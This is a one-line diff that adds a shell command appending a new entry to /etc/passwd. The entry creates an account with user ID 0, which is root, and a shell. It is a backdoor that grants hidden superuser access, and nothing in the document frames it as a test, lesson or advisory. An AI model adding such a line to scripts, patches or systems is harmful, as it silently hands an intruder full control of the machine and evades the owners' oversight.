@@ -1,0 +1,1 @@
+echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd
